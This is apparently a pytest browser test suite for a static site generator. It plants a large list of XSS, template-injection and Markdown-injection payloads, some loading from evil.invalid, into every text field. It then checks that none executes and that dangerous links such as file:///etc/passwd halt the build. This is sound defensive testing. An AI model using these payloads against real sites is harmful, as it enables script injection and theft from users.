"""What hostile authors write stays text: scripts in every text field of every kind, and none runs.

The pages are opened without their Content-Security-Policy, so that it is the escaping and
sanitising alone that hold.
"""

from __future__ import annotations

import itertools
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import yaml
from filelock import FileLock

from generator.model import KINDS
from generator.model.fields import Model
from generator.model.people import People
from generator.model.settings import Settings
from generator.model.shape import Form, Shape, shapes_of
from generator.model.sheet import Sheet

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parents[2]
EVERY_KIND = ROOT / "tests" / "sites" / "every-kind" / "content"

PAYLOADS = [
    # elements that run
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script src=https://evil.invalid/x.js></script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '<script type="module">import("https://evil.invalid/x.js")</script>',
    # event handlers
    '<img src="PIC" alt="x" onload=alert(1)>',
    '<img src="PIC" alt="x" onload="alert(1)"/onerror="alert(1)">',
    "<img alt=x onerror=alert(1)>",
    '<img/src="PIC"/alt=x/onload=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<b onmouseover="alert(1)" class="x">x</b>',
    "<p onclick\n=\nalert(1)>x</p>",
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    '<a href="#pb-main" onclick="alert(1)">x</a>',
    # addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.com/&quot; onclick=&quot;alert(1)">x</a>',
    '<img src="https://evil.invalid/pixel.png" alt="x">',
    '<img src="//evil.invalid/pixel.png" alt="x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    '<img srcset="https://evil.invalid/pixel.png 1x" alt="x">',
    '<table background="https://evil.invalid/x.png"><tr><td>x</td></tr></table>',
    # frames, styles, the head
    "<iframe src=https://evil.invalid/></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=https://evil.invalid/></object>",
    "<embed src=https://evil.invalid/>",
    '<base href="https://evil.invalid/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.invalid/">',
    '<link rel="stylesheet" href="https://evil.invalid/x.css">',
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>body{background:url(https://evil.invalid/x.png)}</style>",
    '<p style="background:url(https://evil.invalid/x.png)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<form action="https://evil.invalid/"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img alt=x onerror=alert(1)>"></noscript>',
    # out of attributes, and through parsers that disagree
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "x` onmouseover=`alert(1)",
    '<span title="<a href=" lang=" onmouseover=alert(1) x=">x</span>',
    '<span title="<img src=" lang=" onmouseover=alert(1) x=">x</span>',
    '<b title="&quot; onmouseover=&quot;alert(1)">x</b>',
    (
        "<math><mtext><table><mglyph><style><img alt=x onerror=alert(1)></style></mglyph></table>"
        "</mtext></math>"
    ),
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<svg></p><style><a id="</style><img alt=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img alt=x onerror=alert(1)>",
    "<!--><img alt=x onerror=alert(1)>-->",
    "<!-- --!><img alt=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<xmp><p title="</xmp><img alt=x onerror=alert(1)>">',
    "<plaintext><script>alert(1)</script>",
    "<select><template><img alt=x onerror=alert(1)></template></select>",
    # characters in disguise
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
    "<s\u200bcript>alert(1)</script>",
    "&#0;<script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # templates
    "{{7*7191}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{{7*7191}}",
    "{% if 1 %}{{7*7191}}{% endif %}",
    "${7*7191} #{7*7191} <%= 7*7191 %>",
    "{count} {title.__class__} {0}",
    # Markdown
    '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
    '[x](https://example.com/"onmouseover="alert(1))',
    '[x](https://example.com/){onclick="alert(1)" style="position:fixed"}',
    '![x" onerror="alert(1)](PIC "\\" onload=\\"alert(1)")',
    '![x](PIC){onload="alert(1)" width="1\\" onload=\\"alert(1)"}',
    '`code`{onclick="alert(1)" class="\\" onclick=\\"alert(1)"}',
    '<https://example.com/?"onmouseover="alert(1)>',
    "**bold<script>alert(1)</script>**",
    "~~</del><svg onload=alert(1)>~~",
    "`<script>alert(1)</script>`",
]
"""Texts that the build takes, warning or not."""

BLOCKS = [
    "## <img alt=x onerror=alert(1)> heading",
    '## heading {onclick="alert(1)" #name}',
    (
        "| <script>alert(1)</script> | b |\n| :-- | --: |\n"
        '| <svg onload=alert(1)> | x" onclick="alert(1) |'
    ),
    (
        'A note.[^"><script>alert(1)</script>]\n\n'
        '[^"><script>alert(1)</script>]: <script>alert(1)</script>'
    ),
    '{onclick="alert(1)" class="x\\" onclick=\\"alert(1)"}\nA paragraph.',
    '!!! note "</p><script>alert(1)</script>"\n    <img alt=x onerror=alert(1)>',
    '!!! "onclick="alert(1)" "x"\n    text',
    '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '- [ ] <input autofocus onfocus=alert(1)>\n- [x] " onclick="alert(1)',
    "Term <script>alert(1)</script>\n:   <svg onload=alert(1)>",
    "> <iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<details open ontoggle=alert(1)>\n\n**x**\n\n</details>",
    "[reference][r]\n\n[r]: https://example.com '\" onmouseover=\"alert(1)'",
]
"""Bodies alone have these."""

REJECTED = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](javascript%3aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](//evil.invalid/x)",
    "[x](/\\evil.invalid/x)",
    "[x](\\\\evil.invalid\\x)",
    "[x](../../../../etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "![x](https://evil.invalid/pixel.png)",
    "![x](//evil.invalid/pixel.png)",
    '<img src="nowhere.png" alt="x" onerror="alert(1)">',
]
"""Addresses that no page may carry; the build says so and stops."""

DETECTOR = """
for (const name of ["alert", "confirm", "prompt"]) {
  window[name] = () => console.error(`an attack ran: ${name}`);
}
"""

SCAN = """(home) => {
  const elements = ["iframe", "frame", "object", "embed", "base", "style", "template", "math",
    "audio", "video", "source", "foreignObject", "animate", "use", "marquee"];
  const attributes = ["style", "srcdoc", "srcset", "background", "formaction"];
  const schemes = ["http:", "https:", "mailto:", "tel:"];
  return [...document.querySelectorAll("*")].flatMap((part) => {
    const name = part.localName, found = [];
    const outside = (address) => !new URL(address, location.href).href.startsWith(home);
    if (elements.includes(name)) found.push(name);
    if (name === "script" && (!part.src || outside(part.src))) found.push("script");
    if (name === "meta" && part.httpEquiv.toLowerCase() === "refresh") found.push("refresh");
    if (name === "img" && outside(part.src || ".")) found.push("img " + part.src);
    if (name === "link" && outside(part.href)) found.push("link " + part.href);
    if (name === "form" && outside(part.getAttribute("action"))) found.push("form");
    for (const { name: key, value } of part.attributes) {
        if (key.startsWith("on") || attributes.includes(key))
            found.push(`${name} ${key}=${value}`);
        if (/^(xlink:)?href$/.test(key)
            && !schemes.includes(new URL(value, location.href).protocol))
            found.push(`${name} ${key}=${value}`);
    }
    return found;
  });
}"""


class Poisoner:
    """Puts a payload into every text of a file's data."""

    def __init__(self) -> None:
        self.picture = ""
        """The address of a picture from where the file stands."""
        self.numbers = {form: itertools.count() for form in (Form.WORDS, Form.PROSE)}
        self.placed: set[tuple[Form, str]] = set()

    def payload(self, form: Form) -> str:
        """The next one. A number behind it tells titles apart where they have to differ."""
        number = next(self.numbers[form])
        text = PAYLOADS[number % len(PAYLOADS)]
        self.placed.add((form, text))
        filled = text.replace("PIC", self.picture)
        return f"{filled} {number}" if form is Form.WORDS else filled

    def model(self, model: type[Model], data: dict[str, Any], texts_only: bool) -> dict[str, Any]:
        """`data` with payloads for texts; for a translation only those, and the ids they go by."""
        made = {"id": data["id"]} if texts_only and "id" in data else {}
        keep = _columns_of_text(data) if model is Sheet else None
        for shape in shapes_of(model):
            if shape.translatable:
                value = self._field(shape, data.get(shape.name), texts_only, keep)
            else:
                value = None if texts_only else data.get(shape.name)
            if value is not None:
                made[shape.name] = value
        return made

    def _field(self, shape: Shape, value: Any, texts_only: bool, keep: set[str] | None) -> Any:
        if shape.form in (Form.WORDS, Form.PROSE):
            return self.payload(shape.form)
        if value is None:
            return None
        if shape.form is Form.TEXTS:
            form = Form.PROSE if shape.name not in WORDS_BY_KEY else Form.WORDS
            return {key: self.payload(form) for key in value}
        assert shape.model is not None
        if shape.form is Form.MODEL:
            return self.model(shape.model, value, texts_only)
        items = [self.model(shape.model, item, texts_only) for item in value]
        if keep is not None and shape.name == "rows":
            for item, row in zip(items, value, strict=True):
                kept = {} if texts_only else row["cells"]
                texts = {name: text for name, text in item["cells"].items() if name in keep}
                item["cells"] = {**kept, **texts}
        return items


WORDS_BY_KEY = ("tags", "choices", "cells")


def _columns_of_text(sheet: dict[str, Any]) -> set[str]:
    return {c["id"] for c in sheet["columns"] if c.get("type", "text") in ("text", "person")}


def poison(source: Path, target: Path) -> set[tuple[Form, str]]:
    """Writes the playbook in `source` to `target`, in two languages, with payloads for texts."""
    poisoner = Poisoner()
    models: dict[str, type[Model]] = {kind.folder: kind.model for kind in KINDS}
    models |= {"playbook": Settings, "people": People}
    for path in sorted(source.rglob("*")):
        name = path.relative_to(source)
        if ".zh." in path.name or path.is_dir():
            continue
        (target / name).parent.mkdir(parents=True, exist_ok=True)
        model = models.get(name.parts[0] if len(name.parts) > 1 else path.stem)
        if model is None:
            shutil.copy(path, target / name)
            continue
        picture = "../images/plant.png" if len(name.parts) > 1 else "images/plant.png"
        poisoner.picture = picture
        data = _data_of(path)
        for suffix, texts_only in (("", False), (".zh", True)):
            made = poisoner.model(model, data, texts_only)
            if model in (People, Settings) and not texts_only:
                _poison_plain(made)
            elif name.parts[0] not in ("people.yml", "playbook.yml"):
                _poison_review(made, texts_only, checked=len(name.stem) % 2 == 0)
            written = target / name.with_suffix(f"{suffix}{path.suffix}")
            written.write_text(_file_of(made, path.suffix, picture), encoding="utf-8")
    return poisoner.placed


def _data_of(path: Path) -> dict[str, Any]:
    text = path.read_text(encoding="utf-8")
    front = text.split("---\n")[1] if path.suffix == ".md" else text
    data: dict[str, Any] = yaml.load(front, yaml.CBaseLoader)  # noqa: S506 -- strings alone
    return data


def _poison_plain(data: dict[str, Any]) -> None:
    """Fields that are no texts and yet are free."""
    for person in data.get("people", ()):
        person["email"] = '"><img alt=x onerror=alert(1)>@example.com?body=javascript:alert(1)'
    if "repository" in data:
        data["repository"]["url"] = "https://git.example.com/&quot;onclick=alert(1)"
        data["repository"]["edit"] = "https://git.example.com/{path}?`onclick=alert(1)&lt;x"


def _poison_review(data: dict[str, Any], texts_only: bool, checked: bool) -> None:
    """Entries that are checked, with what is free in their reviews; the others are evergreen."""
    if not checked:
        return
    data.pop("evergreen", None)
    if not texts_only:
        note = "</p><script>alert(1)</script>"
        data["reviewed"] = {"on": "2026-01-07", "outcome": "confirmed", "note": note}
        data["cadence"] = {"every": "1 day", "reason": "</span><svg onload=alert(1)>"}
        for claim in data.get("claims", ()):
            claim["cadence"] = {"every": "2 days", "reason": "<img src=x onerror=alert(1)>"}


def _file_of(data: dict[str, Any], suffix: str, picture: str) -> str:
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    if suffix != ".md":
        return text
    body = "\n\n".join([*PAYLOADS, *BLOCKS]).replace("PIC", picture)
    return f"---\n{text}---\n{body}\n"


def run_build(root: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "generator", "build", "--today", "2026-11-23",
         "--content", str(root / "content"), "--output", str(root / "site")],
        cwd=ROOT, capture_output=True, text=True, encoding="utf-8", check=False,
    )  # fmt: skip


@pytest.fixture(scope="session")
def poisoned(site: Path) -> Path:
    """A site with payloads in every text of every kind, built once for all processes."""
    root = site.parent / "poisoned"
    with FileLock(site.parent / "poisoned.lock"):
        if not (root / "site").exists():
            placed = poison(EVERY_KIND, root / "content")
            for form in (Form.WORDS, Form.PROSE):
                missing = set(PAYLOADS) - {text for used, text in placed if used is form}
                assert not missing, f"more fields are needed: {len(missing)} payloads have no place"
            result = run_build(root)
            assert result.returncode == 0, result.stdout
    return root / "site"


def pages_of(folder: Path) -> Iterator[str]:
    for path in sorted(folder.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        if not re.search(r'http-equiv="refresh"', text.partition("<body")[0]):
            yield path.relative_to(folder).as_posix()


def test_there_are_payloads_enough():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


@pytest.mark.parametrize("half", [0, 1])
def test_no_payload_runs_anywhere(reader, serve, poisoned, language, half):
    home = serve(poisoned)
    page = reader(home=home, bypass_csp=True)
    page.add_init_script(DETECTOR)
    page.on("dialog", lambda dialog: pytest.fail(f"an attack opened a dialog: {dialog.message}"))
    urls = [url for url in pages_of(poisoned) if url.startswith(f"{language}/")]
    assert len(urls) > 30
    for url in urls[half::2]:
        page.goto(url)
        assert page.evaluate(SCAN, home) == [], url
        assert page.url == home + url


def test_the_detectors_detect(reader, serve, tmp_path):
    """What the test above rests on: without the generator's care, payloads do run."""
    (tmp_path / "bad.html").write_text(
        "<!doctype html><title>x</title><body onload=alert(1)><a href='javascript:alert(1)'>x</a>",
        encoding="utf-8",
    )
    (tmp_path / "404.html").touch()
    home = serve(tmp_path)
    page = reader(home=home, missing=True)
    ran: list[str] = []
    page.add_init_script(DETECTOR.replace("console.error", "console.info"))
    page.on("console", lambda message: ran.append(message.text))
    page.goto("bad.html")
    assert ran == ["an attack ran: alert"]
    assert page.evaluate(SCAN, home) == ["body onload=alert(1)", "a href=javascript:alert(1)"]


def test_searching_among_payloads_runs_none(reader, serve, poisoned):
    page = reader(home=serve(poisoned), bypass_csp=True)
    page.add_init_script(DETECTOR)
    for query in ("<script>", "onload", "alert(1)"):
        page.goto(f"en/find.html?{urlencode({'q': query})}")
        page.locator(".hits a").first.wait_for()
        page.mouse.move(300, 300)
        page.locator(".hit-text:not(:empty)").first.wait_for()


def test_the_policy_has_nothing_to_stop(reader, serve, poisoned):
    """With the policy on, no page even tries: the reader fixture fails on a violation."""
    page = reader(home=serve(poisoned))
    for url in [url for url in pages_of(poisoned) if url.startswith("en/")][::4]:
        page.goto(url)


def test_a_former_address_leads_on_and_runs_nothing(reader, serve, poisoned):
    home = serve(poisoned)
    page = reader(home=home, bypass_csp=True)
    page.add_init_script(DETECTOR)
    page.goto("en/sops/old-visit.html")
    page.wait_for_url(f"{home}en/sops/visit.html")


def test_templates_in_texts_stay_text(poisoned):
    texts = [path.read_text(encoding="utf-8") for path in poisoned.rglob("*.html")]
    assert any("{{7*7191}}" in text for text in texts)
    assert not any("50337" in text for text in texts)


def test_addresses_that_no_page_may_carry_stop_the_build(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(EVERY_KIND, content)
    head = (content / "pages" / "team.md").read_text(encoding="utf-8").split("---\n")[1]
    for number, text in enumerate(REJECTED):
        page = f"---\n{head}---\n{text}\n"
        (content / "pages" / f"bad-{number}.md").write_text(page, encoding="utf-8")
    result = run_build(tmp_path)
    assert result.returncode == 1
    assert not (tmp_path / "site").exists()
    told = re.findall(r"pages/bad-(\d+)\.md:\d+:\d+: PB\d+ (?!warning)", result.stdout)
    assert [REJECTED[n] for n in range(len(REJECTED)) if str(n) not in told] == []
